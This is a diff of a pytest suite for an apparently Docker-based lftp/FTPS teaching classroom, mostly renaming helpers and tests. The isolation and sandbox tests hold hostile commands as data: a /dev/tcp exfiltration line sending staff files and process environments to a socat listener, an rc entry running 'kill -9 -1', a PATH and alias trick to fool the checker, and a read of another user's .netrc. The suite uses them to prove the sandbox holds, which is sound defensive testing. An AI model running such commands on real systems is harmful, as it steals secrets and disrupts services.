@@ -39,7 +39,7 @@ WITH_SSH = ("-f", "compose.yaml", "-f", "compose.ssh.yaml")
 
 ANSWER_SECONDS = 120
 BUILD_SECONDS = 900
-TOLD_SECONDS = 20
+LOG_SECONDS = 20
 """A host checks once per second; no test waits longer for its message."""
 
 FETCH = "openssl s_client -starttls ftp -connect"
@@ -48,13 +48,13 @@ PROMPT = re.compile(r"(student\$|teacher\$|lftp \S+>) ?(.*)")
 
 
 @dataclass
-class Typed:
+class LessonCommand:
     """One command of the lessons.
 
     Attributes:
         who: ``student`` or ``teacher``.
-        command: Typed at the shell.
-        inside: Typed at lftp's own prompt.
+        command: The line for the shell.
+        inside: The lines for lftp's own prompt.
         shown: Output according to the document; `…` stands for anything.
     """
 
@@ -81,9 +81,9 @@ def _part(line: str) -> str:
     return ".+".join(map(re.escape, line.split("…")))
 
 
-def typed(text: str) -> list[Typed]:
+def lesson_commands(text: str) -> list[LessonCommand]:
     """Every command in a document's console blocks, in order."""
-    commands: list[Typed] = []
+    commands: list[LessonCommand] = []
     for block in re.findall(r"```console\n(.*?)```", text, re.DOTALL):
         for line in block.splitlines():
             prompt = PROMPT.fullmatch(line)
@@ -92,7 +92,7 @@ def typed(text: str) -> list[Typed]:
             elif prompt[1].startswith("lftp"):
                 commands[-1].inside.append(prompt[2])
             else:
-                commands.append(Typed(prompt[1].removesuffix("$"), prompt[2]))
+                commands.append(LessonCommand(prompt[1].removesuffix("$"), prompt[2]))
     return commands
 
 
@@ -124,7 +124,7 @@ class Classroom:
         )
         return done.returncode, done.stdout, done.stderr
 
-    def also(self, **variables: str) -> None:
+    def set_environment(self, **variables: str) -> None:
         """Add variables to the environment."""
         self._environment |= variables
 
@@ -175,7 +175,7 @@ class Classroom:
         assert code == 0 or "the other clients do not need this image" in output + errors, output + errors
         return code == 0
 
-    def left(self) -> list[str]:
+    def leftovers(self) -> list[str]:
         """Containers, networks and volumes of this classroom."""
         label = f"label=com.docker.compose.project={self.project}"
         found = []
@@ -228,14 +228,16 @@ def classroom(request: pytest.FixtureRequest, engine: Engine) -> Iterator[Classr
     try:
         yield classroom
     finally:
-        classroom.also(CLASSROOM_SSH="127.0.0.1:2222")  # nothing starts any more, but the file needs an address
+        classroom.set_environment(
+            CLASSROOM_SSH="127.0.0.1:2222"
+        )  # nothing starts any more, but the file needs an address
         classroom.compose(*WITH_SSH, "--profile", "student", "down", "-v", "--remove-orphans")
-    assert classroom.left() == []
+    assert classroom.leftovers() == []
 
 
-def test_the_lessons_can_be_read() -> None:
+def test_lesson_parser_finds_commands_and_every_host() -> None:
     """The parser finds commands, and each host of the document is in a lesson."""
-    commands = typed(LESSONS)
+    commands = lesson_commands(LESSONS)
     assert len(commands) >= 40
     assert {command.who for command in commands} == {"student", "teacher"}
     assert [host.address for host in HOSTS.values() if not any(host.address in each.command for each in commands)] == []
@@ -253,19 +255,19 @@ def test_the_lessons_can_be_read() -> None:
         ([], "unexpected\n", False),
     ],
 )
-def test_what_is_shown_is_all_that_may_come(shown: list[str], output: str, fits: bool) -> None:
-    assert bool(Typed("student", "x", shown=shown).pattern.fullmatch(output)) is fits
+def test_output_pattern_matches_the_whole_output(shown: list[str], output: str, fits: bool) -> None:
+    assert bool(LessonCommand("student", "x", shown=shown).pattern.fullmatch(output)) is fits
 
 
 @pytest.mark.lftp
-def test_the_classroom(classroom: Classroom) -> None:
+def test_classroom_runs_every_lesson_and_is_sealed(classroom: Classroom) -> None:
     classroom.must("build", "example", timeout=BUILD_SECONDS)
     classroom.must("build", "class", "checker", "student", "student-bullseye", timeout=BUILD_SECONDS)
     classroom.must("up", "-d")
     with classroom.student() as student, classroom.learner("anna") as anna:
         prove_rights(classroom)
         prove_sealed(classroom, student)
-        prove_apart(classroom, anna)
+        prove_isolation(classroom, anna)
         teach(classroom, anna)
         prove_window(classroom)
         prove_check(classroom, anna)
@@ -286,7 +288,7 @@ def test_the_classroom(classroom: Classroom) -> None:
         student.type(f"{FETCH} vsftpd.example.com:21 | openssl x509 >mycert.crt; echo 'set ssl:ca-file mycert.crt' >rc")
         assert "welcome.txt" in student.type("echo ls | lftp vsftpd.example.com")
     classroom.must(*WITH_SSH, "down", "-v")
-    assert classroom.left() == []
+    assert classroom.leftovers() == []
 
 
 def prove_rights(classroom: Classroom) -> None:
@@ -325,7 +327,7 @@ def prove_sealed(classroom: Classroom, student: Student) -> None:
     assert time.monotonic() - began < 10, "a mistyped name keeps a learner waiting"
 
 
-def prove_apart(classroom: Classroom, anna: Student) -> None:
+def prove_isolation(classroom: Classroom, anna: Student) -> None:
     """A learner neither sees nor breaks anything of another learner, and none sees the staff's data."""
     assert anna.type("id -un; id -G") == "anna\n2000\n"
     assert "Permission denied" in anna.type("cat /home/ben/.netrc")
@@ -367,7 +369,7 @@ def prove_check(classroom: Classroom, anna: Student) -> None:
     anna.type("echo 'set ssl:verify-certificate no' >rc; mkdir -p ~/bin; cp /bin/true ~/bin/lftp")
     cheat = "PATH=~/bin:$PATH; lftp() { true; }; alias lftp=true; check 3; echo $?"
     assert anna.type(cheat).endswith("not solved\n1\n")
-    prove_caged(classroom, anna)
+    prove_checker_sandbox(classroom, anna)
     anna.type("echo '!kill -9 -1' >rc")
     assert anna.type("check 3; echo $?").splitlines()[-1] != "0"
     anna.type("echo 'set ssl:ca-file \"~/.lftp/mycert.crt\"' >rc")
@@ -380,7 +382,7 @@ def prove_check(classroom: Classroom, anna: Student) -> None:
     classroom.must("start", "checker")
 
 
-def prove_caged(classroom: Classroom, anna: Student) -> None:
+def prove_checker_sandbox(classroom: Classroom, anna: Student) -> None:
     """An rc may run programs in the checker; they send anna everything within reach, and nothing of the staff's."""
     anna.type("socat -u TCP-LISTEN:5555,reuseaddr OPEN:/tmp/stolen,creat,append 2>/dev/null & sleep 1")
     thief = "exec 3<>/dev/tcp/class/5555; { id; cat /staff/*; cat /proc/[0-9]*/environ; ls /proc/1/fd/; } >&3 2>&3"
@@ -404,7 +406,7 @@ def prove_ssh(classroom: Classroom) -> None:
     code, _, said = classroom.compose(*WITH_SSH, "config", "-q")
     assert code != 0
     assert "name the address and port for ssh" in said
-    classroom.also(CLASSROOM_SSH=f"127.0.0.1:{port}")
+    classroom.set_environment(CLASSROOM_SSH=f"127.0.0.1:{port}")
     classroom.must(*WITH_SSH, "up", "-d", "--no-recreate", "door", timeout=BUILD_SECONDS)
     slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
     doors = {line.split()[0]: line.split()[2] for line in slips}
@@ -471,15 +473,15 @@ class Door:
 
 def teach(classroom: Classroom, student: Student) -> None:
     """Type every command of docs/classroom.md and compare its output exactly."""
-    for each in typed(LESSONS):
-        output = student.type(each.script) if each.who == "student" else eventually(classroom, each)
+    for each in lesson_commands(LESSONS):
+        output = student.type(each.script) if each.who == "student" else output_of_teacher(classroom, each)
         assert each.pattern.fullmatch(output), f"{each.command}\n{output}\ninstead of\n" + "\n".join(each.shown)
 
 
-def eventually(classroom: Classroom, each: Typed) -> str:
-    """A host's message goes through the engine and may arrive a moment later; other commands run once."""
+def output_of_teacher(classroom: Classroom, each: LessonCommand) -> str:
+    """Output of a teacher's command; `logs` is repeated until the host's message has arrived through the engine."""
     output = classroom.teacher(each.command)
-    deadline = time.monotonic() + TOLD_SECONDS
+    deadline = time.monotonic() + LOG_SECONDS
     while " logs " in each.command and not each.pattern.fullmatch(output) and time.monotonic() < deadline:
         time.sleep(0.2)
         output = classroom.teacher(each.command)
